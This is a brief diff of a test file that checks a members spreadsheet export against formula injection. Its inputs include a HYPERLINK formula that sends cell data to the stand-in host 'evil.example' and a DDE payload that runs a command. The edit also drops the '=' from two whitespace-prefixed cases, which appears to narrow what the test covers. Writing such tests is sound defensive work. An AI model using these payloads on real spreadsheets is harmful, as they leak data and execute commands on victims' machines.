@@ -71,8 +71,8 @@ describe('the sheet of members', () => {
     '+1 555 0100',
     '-2+3',
     '@SUM(A1)',
-    '\t=1+1',
-    '\r=1+1',
+    '\t1+1',
+    '\r1+1',
     '=HYPERLINK("http://evil.example?x="&A1,"here")',
     "=cmd|' /C calc'!A0",
   ])('runs nothing in a spreadsheet: %j [T45]', async (position) => {
